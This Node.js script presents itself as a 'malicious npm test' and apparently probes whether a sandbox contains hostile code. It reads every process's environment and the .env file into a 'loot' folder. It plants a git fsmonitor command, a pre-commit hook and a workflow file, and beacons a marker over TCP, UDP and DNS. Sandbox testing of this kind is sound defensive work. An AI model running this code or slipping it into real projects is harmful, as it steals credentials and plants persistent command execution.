// A malicious `npm test`: the same attempts as attack.sh, from node.
const fs = require("fs");
const net = require("net");
const dgram = require("dgram");
const dns = require("dns");
const env = process.env;
fs.mkdirSync("loot", { recursive: true });
const log = (s) => console.log(s);
for (const f of (env.ATTACK_OUTSIDE || "").split(" ").filter(Boolean)) {
  try { fs.writeFileSync(f, "pwned"); log(`write ${f}: done`); } catch (e) { log(`write ${f}: blocked ${e.code}`); }
}
for (const p of (env.ATTACK_PIDS || "").split(" ").filter(Boolean)) {
  try { fs.appendFileSync("loot/environ", fs.readFileSync(`/proc/${p}/environ`)); log(`environ ${p}: read`); } catch (e) { log(`environ ${p}: blocked ${e.code}`); }
}
for (const d of fs.readdirSync("/proc").filter((d) => /^\d+$/.test(d))) {
  try { fs.appendFileSync("loot/all-environ", fs.readFileSync(`/proc/${d}/environ`)); } catch (e) {}
}
try { fs.appendFileSync("loot/dotenv", fs.readFileSync(".env")); log(".env: read"); } catch (e) { log(`.env: blocked ${e.code}`); }
try { fs.appendFileSync(".git/config", '\tfsmonitor = "touch /tmp/fsmonitor-ran"\n'); log(".git/config: written"); } catch (e) { log(`.git/config: blocked ${e.code}`); }
try { fs.writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\ntouch /tmp/hook-ran\n"); log("hook: written"); } catch (e) { log(`hook: blocked ${e.code}`); }
fs.mkdirSync(".github/workflows", { recursive: true });
fs.writeFileSync(".github/workflows/evil.yml", "on: push\n");
const hp = (s) => { const i = s.lastIndexOf(":"); return [s.slice(0, i), Number(s.slice(i + 1))]; };
const udp = (name, addr) => new Promise((res) => {
  try {
    const s = dgram.createSocket("udp4");
    s.on("error", (e) => { log(`${name}: blocked ${e.code}`); s.close(); res(); });
    const [h, p] = hp(addr);
    s.send(env.ATTACK_MARK, p, h, (e) => { log(`${name}: ${e ? "blocked " + e.code : "sent"}`); s.close(); res(); });
  } catch (e) { log(`${name}: blocked ${e.code}`); res(); }
});
const tcp = () => new Promise((res) => {
  const [h, p] = hp(env.ATTACK_TCP);
  const c = net.connect(p, h, () => { c.end(env.ATTACK_MARK); log("tcp: sent"); res(); });
  c.on("error", (e) => { log(`tcp: blocked ${e.code}`); res(); });
});
const lookup = () => new Promise((res) => {
  try {
    const r = new dns.Resolver({ timeout: 500, tries: 1 });
    r.setServers([env.ATTACK_DNS]);
    r.resolve4(env.ATTACK_MARK + ".example.com", (e) => { log(`dns: ${e ? e.code : "answered"}`); res(); });
  } catch (e) { log(`dns: blocked ${e.code}`); res(); }
});
(async () => { await tcp(); await udp("udp", env.ATTACK_UDP); await lookup(); })();
